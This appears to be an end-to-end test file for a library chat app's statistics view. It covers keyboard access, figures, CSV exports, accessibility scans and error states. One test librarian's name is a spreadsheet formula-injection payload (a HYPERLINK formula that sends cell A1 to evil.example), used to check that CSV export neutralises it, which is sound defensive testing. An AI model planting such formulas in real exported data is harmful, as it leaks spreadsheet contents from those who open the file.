/**
 * The statistics view end to end in Chromium, on a real backend (its own pickup goal, 15 s, so
 * the goal shown cannot be a literal) with chats started, claimed, ended and left through the real
 * protocol: an administrator opens Statistics from the menu by keyboard alone, sees the figures the
 * backend answered (pickup per campus and in total, the heatmaps, the days, per librarian), downloads
 * each table's CSV (a librarian whose name starts with `=` comes back neutralised), and axe finds
 * nothing critical, serious or moderate at 1366x768, 1024x768 and 1920x1080. A librarian who is not
 * an administrator sees their own figures; custom dates are checked; an empty range and a backend
 * that cannot be reached are said in words.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PatronClient } from '../../src/dev/patron-client';
import { startServer } from '../../src/server';
import { DEFAULT_TIMING } from '../../src/shared/alerts';
import type { ChatStatistics } from '../../src/shared/statistics/schemas';
import { presetRange } from '../../src/renderer/statistics/ranges';
import type { TestBackend } from '../support/backend';
import { DESK_SIZES } from '../support/dock-page';
import { e2ePages } from '../support/e2e-pages';
import { type Librarian, launchChromium, startLibrarian } from '../support/harness';

const TIMING = { ...DEFAULT_TIMING, beepIntervalMs: 7_000, urgentAfterMs: 20_000, ticketOfferAfterMs: 600_000 };
const GOAL_MS = 15_000;
const WCAG = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
/** A librarian's name a spreadsheet would run as a formula, were it not neutralised. */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Eve")';

let browser: Browser;
let backend: TestBackend;
let backendClosed = false;
let ada: Librarian; // Tunxis, administrator
let eve: Librarian; // Tunxis, a librarian with a hostile name
let bo: Librarian; // Gateway, a librarian (not an administrator)
const patrons: PatronClient[] = [];
const pages = e2ePages(() => browser);
const downloads = mkdtempSync(join(tmpdir(), 'deskbell-stats-csv-'));

/** A real backend with its own pickup goal (the support helper passes no statistics options). */
async function startBackend(): Promise<TestBackend> {
  const dir = mkdtempSync(join(tmpdir(), 'deskbell-stats-'));
  const server = await startServer({
    dbPath: join(dir, 'desk.db'),
    port: 0,
    timing: TIMING,
    limits: { patronStartBurst: 100_000, patronConnectionsPerAddress: 10_000 },
    smtp: null,
    chatHours: 'always-open',
    pickupGoalMs: GOAL_MS,
  });
  return {
    server,
    dir,
    async close() {
      await server.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

async function startChat(campus: string, name: string, question: string): Promise<{ patron: PatronClient; chatId: string }> {
  const patron = new PatronClient(backend.server.url);
  patrons.push(patron);
  return { patron, chatId: await patron.start(campus, name, question) };
}

async function ok(outcome: Promise<{ ok: boolean; error?: { message: string } }>): Promise<void> {
  const done = await outcome;
  if (!done.ok) throw new Error(done.error?.message ?? 'refused');
}

beforeAll(async () => {
  backend = await startBackend();
  backend.server.addOperator({ username: 'ada', name: 'Ada Lovelace', campus: 'tunxis', password: 'ada-password-123', role: 'admin' });
  backend.server.addOperator({ username: 'eve', name: HOSTILE_NAME, campus: 'tunxis', password: 'eve-password-123' });
  backend.server.addOperator({ username: 'bo', name: 'Bo Diddley', campus: 'gateway', password: 'bo-password-123' });
  [ada, eve, bo, browser] = await Promise.all([startLibrarian(backend, 'ada', TIMING), startLibrarian(backend, 'eve', TIMING), startLibrarian(backend, 'bo', TIMING), launchChromium()]);
  // Four chats through the real protocol: Ada answers and ends one, Eve and Bo claim one each, one is never claimed.
  const kim = await startChat('tunxis', 'Kim', 'Can I renew a laptop loan?');
  await ok(ada.core.call('chat.claim', { chatId: kim.chatId }));
  await ok(ada.core.call('chat.send', { chatId: kim.chatId, text: 'Yes: at the desk, for a week.' }));
  await ok(ada.core.call('chat.end', { chatId: kim.chatId }));
  const lou = await startChat('tunxis', 'Lou', 'Where is the quiet floor?');
  await ok(eve.core.call('chat.claim', { chatId: lou.chatId }));
  const max = await startChat('gateway', 'Max', 'Do you have the ENG 101 reader?');
  await ok(bo.core.call('chat.claim', { chatId: max.chatId }));
  await startChat('tunxis', 'Ned', 'Is the printer working?');
});

afterAll(async () => {
  for (const p of patrons) p.close();
  await pages.closeAll();
  await browser?.close();
  await Promise.all([ada?.close(), eve?.close(), bo?.close()]);
  if (!backendClosed) await backend?.close();
  rmSync(downloads, { recursive: true, force: true });
});

const focused = (page: Page) => page.evaluate(() => (document.activeElement as HTMLElement | null)?.dataset.testid ?? document.activeElement?.tagName ?? null);

/** Tab until the element with this test id has the focus (at most `limit` presses); false if it never does. */
async function tabTo(page: Page, testId: string, limit = 60): Promise<boolean> {
  for (let i = 0; i < limit; i++) {
    if ((await focused(page)) === testId) return true;
    await page.keyboard.press('Tab');
  }
  return (await focused(page)) === testId;
}

/** Open Statistics from the top bar's menu with the keyboard only; resolves when the figures are drawn. */
async function openStatisticsByKeyboard(page: Page): Promise<void> {
  await page.locator('[data-testid=open-menu]').focus();
  await page.keyboard.press('Enter');
  expect(await tabTo(page, 'open-statistics', 20)).toBe(true);
  await page.keyboard.press('Enter');
  await page.waitForSelector('[data-testid=statistics-panel]');
  // The keyboard lands in the panel: on the range.
  await expect.poll(() => focused(page)).toBe('statistics-range');
  await page.waitForSelector('[data-testid=statistics-scope]');
  await expect.poll(() => page.locator('[data-testid=statistics-status]').textContent()).toBe('');
}

/** A table's rows as the screen shows them: each row's cells' text. */
const tableRows = (page: Page, id: string, part: 'tbody' | 'tfoot' | 'thead' = 'tbody') =>
  page.$$eval(`[data-testid=stats-table-${id}] ${part} tr`, (rows) => rows.map((row) => [...row.children].map((cell) => cell.textContent ?? '')));

/** Press a table's Download CSV (by keyboard when asked) and read the file as a spreadsheet would. */
async function downloadCsv(page: Page, id: string, byKeyboard = false): Promise<{ name: string; rows: string[][]; raw: string }> {
  const waiting = page.waitForEvent('download');
  if (byKeyboard) await page.keyboard.press('Enter');
  else await page.click(`[data-testid=stats-csv-${id}]`);
  const download = await waiting;
  const path = join(downloads, download.suggestedFilename());
  await download.saveAs(path);
  const raw = readFileSync(path, 'utf8');
  return { name: download.suggestedFilename(), raw, rows: parse(raw, { bom: true, record_delimiter: '\r\n' }) };
}

async function axeViolations(page: Page, what: string): Promise<string[]> {
  const result = await new AxeBuilder({ page }).withTags(WCAG).setLegacyMode(true).analyze();
  return result.violations
    .filter((v) => v.impact === 'critical' || v.impact === 'serious' || v.impact === 'moderate')
    .map((v) => `${what}: ${v.id} (${v.impact}) ${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(' | ')}: ${v.nodes[0]?.failureSummary ?? ''}`);
}

const pct = (part: number | null) => (part === null ? '–' : `${(Math.round(part * 1000) / 10).toFixed(1)}%`);

describe('the statistics view', () => {
  it('an administrator opens it by keyboard and sees the backend’s figures; each CSV matches, neutralised; axe finds nothing at three sizes', async () => {
    const range = presetRange('month', Date.now());
    const answered = await ada.core.call('statistics.get', range);
    if (!answered.ok) throw new Error(answered.error.message);
    const stats: ChatStatistics = answered.value;
    // Hand-counted: four chats started, three claimed, one never; every one at Tunxis or Gateway.
    expect([stats.all.started, stats.all.claimed, stats.all.neverClaimed]).toEqual([4, 3, 1]);
    expect(stats.goalMs).toBe(GOAL_MS);
    expect(stats.scope.kind).toBe('all');

    const page = await pages.desk(ada);
    await openStatisticsByKeyboard(page);
    // The goal is the backend's, not a literal.
    expect(await page.locator('[data-testid=statistics-goal]').textContent()).toBe('15 s');
    expect(await page.locator('[data-testid=statistics-scope]').getAttribute('data-scope')).toBe('all');
    expect(await page.locator('[data-testid=stats-table-pickup] caption').textContent()).toBe('Pickup against the 15 s goal, by the patron\'s campus');

    // Pickup: the totals row and each campus, as the answer has them.
    const [total] = await tableRows(page, 'pickup', 'tfoot');
    const all = stats.all;
    expect(total).toEqual([
      'All campuses',
      '4',
      '3',
      expect.stringMatching(/\ss$/),
      expect.stringMatching(/\ss$/),
      `${pct(all.withinGoalShare)} (${all.withinGoal})`,
      `${pct(all.withinMinuteShare)} (${all.withinMinute})`,
      '25.0% (1)',
      `${pct(all.reachedTicketOfferShare)} (${all.reachedTicketOffer})`,
      `${pct(all.leftBeforeClaimShare)} (${all.leftBeforeClaim})`,
    ]);
    const campusRows = await tableRows(page, 'pickup');
    expect(campusRows.map((r) => [r[0], r[1], r[2]])).toEqual(stats.campuses.map((c) => [c.campus === 'tunxis' ? 'Tunxis Campus Library' : 'Gateway Campus Library', String(c.started), String(c.claimed)]));
    expect(campusRows.find((r) => r[0] === 'Tunxis Campus Library')?.slice(1, 3)).toEqual(['3', '2']);

    // When it happens: every cell of both heatmaps is the answer's number; the day's row holds the four chats.
    for (const which of ['chats', 'unanswered'] as const) {
      const rows = await tableRows(page, which === 'chats' ? 'chats-by-hour' : 'unanswered-by-hour');
      expect(rows.map((r) => r.slice(1, 25).map(Number))).toEqual(stats.hourOfWeek[which]);
    }
    expect(stats.hourOfWeek.chats.flat().reduce((a, b) => a + b, 0)).toBe(4);
    const days = await tableRows(page, 'by-day');
    expect(days.map((r) => r.slice(1).map(Number))).toEqual(stats.byDay.map((d) => [d.started, d.claimed, d.unanswered]));
    // The charts are drawn (uPlot's canvas), each a named image beside its table.
    for (const chart of ['stats-day-chart', 'stats-pickup-chart']) {
      expect(await page.locator(`[data-testid=${chart}] canvas`).count(), chart).toBeGreaterThan(0);
      expect(await page.getAttribute(`[data-testid=${chart}]`, 'role'), chart).toBe('img');
    }
    expect(await page.getAttribute('[data-testid=stats-pickup-chart]', 'aria-label')).toContain(`${pct(all.withinGoalShare)} within 15 s in all`);

    // Per librarian: Ada, Eve (her name as text) and Bo, with their chats.
    const librarians = await tableRows(page, 'librarians');
    expect(librarians.map((r) => [r[0], r[2]])).toEqual(stats.librarians.map((l) => [l.name, String(l.handled)]));
    expect(librarians.map((r) => r[0])).toContain(HOSTILE_NAME);

    // The pickup CSV, reached and pressed by keyboard: the same figures, seconds and percentages as numbers.
    expect(await tabTo(page, 'stats-csv-pickup')).toBe(true);
    const pickup = await downloadCsv(page, 'pickup', true);
    expect(pickup.name).toBe(`deskbell-pickup-${range.from}-to-${range.to}.csv`);
    expect(pickup.raw.startsWith('\uFEFFCampus,Started,Claimed,')).toBe(true);
    expect(pickup.raw.endsWith('\r\n')).toBe(true);
    const header = pickup.rows[0] ?? [];
    expect(header).toContain('Claimed within 15 s (% of started)');
    const allRow = pickup.rows.find((r) => r[0] === 'All campuses') ?? [];
    const column = (name: string) => allRow[header.indexOf(name)];
    expect([column('Started'), column('Claimed'), column('Never claimed (chats)'), column('Never claimed (% of started)')]).toEqual(['4', '3', '1', '25']);
    expect(column('Claimed within 15 s (chats)')).toBe(String(all.withinGoal));

    // The librarians' CSV: Eve's name opens as text, not as a formula.
    const people = await downloadCsv(page, 'librarians');
    const names = people.rows.slice(1).map((r) => r[0]);
    expect(names).toContain(`'${HOSTILE_NAME}`);
    expect(names.filter((n) => /^[=+\-@\t\r]/.test(n ?? ''))).toEqual([]);
    // And the heatmap's CSV has the hours as columns.
    const heat = await downloadCsv(page, 'chats-by-hour');
    expect(heat.rows[0]?.slice(0, 3)).toEqual(['Day', '00:00', '01:00']);
    expect(heat.rows.slice(1).map((r) => r.slice(1, 25).map(Number))).toEqual(stats.hourOfWeek.chats);

    // axe at each desk size, with the figures on screen; the board stays in view beside them.
    const found: string[] = [];
    for (const size of DESK_SIZES) {
      await page.setViewportSize(size);
      await page.waitForSelector('[data-testid=stats-table-pickup]');
      expect(await page.$eval('[data-testid=board]', (b) => b.getBoundingClientRect().width)).toBeGreaterThan(180);
      await page.screenshot({ path: `.tmp/statistics-${size.width}x${size.height}.png` });
      found.push(...(await axeViolations(page, `statistics at ${size.width}x${size.height}`)));
    }
    expect(found).toEqual([]);

    // A claim from the board brings the conversation back: the wide panel steps aside.
    await page.setViewportSize({ width: 1366, height: 768 });
    const ned = await pages.claim(page, 'Is the printer working?');
    await expect.poll(() => page.locator('[data-testid=statistics-panel]').count()).toBe(0);
    // And so does opening the chat already in front from its card.
    await page.click('[data-testid=open-menu]');
    await page.click('[data-testid=open-statistics]');
    await page.waitForSelector('[data-testid=statistics-panel]');
    await page.click(`[data-testid=chat-${ned}] [data-testid=open-chat]`);
    await expect.poll(() => page.locator('[data-testid=statistics-panel]').count()).toBe(0);
    expect(await page.locator('[data-testid=chat-pane]').isVisible()).toBe(true);
    // The skip link past the board reaches the conversation from under the statistics too.
    await page.click('[data-testid=open-menu]');
    await page.click('[data-testid=open-statistics]');
    await page.waitForSelector('[data-testid=statistics-panel]');
    await page.locator('[data-testid=skip-link]').focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('[data-testid=statistics-panel]').count()).toBe(0);
    await expect.poll(() => focused(page)).toBe('composer');
    expect(pages.problems).toEqual([]);
  });

  it('a librarian who is not an administrator sees their own figures', async () => {
    const page = await pages.desk(bo);
    await openStatisticsByKeyboard(page);
    expect(await page.locator('[data-testid=statistics-scope]').getAttribute('data-scope')).toBe('own');
    expect(await page.locator('[data-testid=statistics-scope]').textContent()).toContain('Your own work');
    const answered = await bo.core.call('statistics.get', presetRange('month', Date.now()));
    if (!answered.ok) throw new Error(answered.error.message);
    const librarians = await tableRows(page, 'librarians');
    expect(librarians.map((r) => r[0])).toEqual(answered.value.librarians.map((l) => l.name));
    expect(librarians.map((r) => r[0])).toEqual(['Bo Diddley']);
    const [total] = await tableRows(page, 'pickup', 'tfoot');
    expect(total?.slice(1, 3)).toEqual([String(answered.value.all.started), String(answered.value.all.claimed)]);
    expect(pages.problems).toEqual([]);
  });

  it('custom dates are checked; a range with nothing in it and a backend out of reach are said in words', async () => {
    const page = await pages.desk(ada);
    await openStatisticsByKeyboard(page);
    await page.selectOption('[data-testid=statistics-range]', 'custom');
    await page.fill('[data-testid=statistics-from]', '2025-03-10');
    await page.fill('[data-testid=statistics-to]', '2025-03-01');
    await page.click('[data-testid=statistics-show]');
    expect(await page.locator('[data-testid=statistics-custom-error]').textContent()).toContain('the range ends before it starts');
    await page.fill('[data-testid=statistics-to]', '2025-03-31');
    await page.click('[data-testid=statistics-show]');
    await page.waitForSelector('[data-testid=statistics-empty]');
    expect(await page.locator('[data-testid=statistics-custom-error]').count()).toBe(0);
    expect(await page.locator('[data-testid=statistics-scope]').textContent()).toContain('Mon, Mar 10, 2025 to Mon, Mar 31, 2025');
    expect(await page.locator('[data-testid=stats-table-pickup]').count()).toBe(0);

    backendClosed = true;
    await backend.close();
    await page.selectOption('[data-testid=statistics-range]', 'week');
    await page.waitForSelector('[data-testid=statistics-error]');
    expect(await page.locator('[data-testid=statistics-error]').textContent()).toContain('The figures could not be read');
  });
});
